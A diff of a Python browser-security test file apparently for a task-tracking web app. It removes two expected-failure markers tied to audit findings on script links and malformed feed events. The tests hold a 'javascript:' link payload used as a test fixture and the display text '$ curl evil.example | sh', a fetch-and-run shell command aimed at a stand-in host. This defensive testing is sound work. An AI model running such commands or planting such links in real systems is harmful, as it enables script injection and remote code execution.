@@ -157,8 +157,6 @@ def add_script_pull_request(sessions: sessionmaker[Session], task_id: str) -> No
                                pr_url="javascript:__h9pwn.push('pr-link')//", publish_state="published"))  # fmt: skip
 
 
-@pytest.mark.xfail(strict=True, reason="H9 finding 4: the list's rows link a task's pull request by its stored "
-                   "address whatever its scheme (the task page keeps only http(s) ones)")  # fmt: skip
 def test_the_task_list_never_makes_a_script_link_of_a_pull_request_address(
     browser: Callable[..., Browser], make_task: Callable[..., str], sessions: sessionmaker[Session]
 ) -> None:
@@ -185,7 +183,7 @@ def test_a_script_link_in_the_list_runs_nothing_when_clicked(
     alice = visitor()
     alice.sign_in(live.base, tokens["alice"])
     link = alice.page.locator(f"#task-{task_id} a", has_text="PR #9")
-    if link.count():  # the link is there until finding 4 is fixed
+    if link.count():  # not since finding 4 was fixed; should it come back, the policy still stops it
         link.click()
         alice.page.wait_for_timeout(500)
     assert probe(alice.page)["ran"] == []
@@ -235,10 +233,6 @@ def test_every_html_answer_of_the_origin_carries_the_policy(browser: Callable[..
         assert "https://" not in " ".join(re.findall(r"<script[^>]*>", answer.text)), path
 
 
-@pytest.mark.xfail(strict=True, reason="H9 finding 3: one event whose data is not shaped as its type promises "
-                   "(a tool result whose output is no string) throws outside the feed's guard: in the page's first "
-                   "events the page script stops (no stream, nothing after it shown); from the stream, every later "
-                   "event is dropped")  # fmt: skip
 @pytest.mark.parametrize("arrives", ["with-the-page", "from-the-stream"])
 def test_one_malformed_event_does_not_hide_the_events_after_it(
     live: LiveServer,
@@ -265,7 +259,7 @@ def test_one_malformed_event_does_not_hide_the_events_after_it(
     alice.page.goto(f"{live.base}/tasks/{task_id}")
     alice.page.wait_for_load_state("networkidle")
     if arrives == "from-the-stream":
-        alice.page.wait_for_function("document.getElementById('stream-status').textContent === 'Live.'")
+        alice.page.locator("#stream-status", has_text="Live.").wait_for()
         odd_then_more()
     alice.page.get_by_text("$ curl evil.example | sh").wait_for(timeout=5000)
     assert not alice.errors
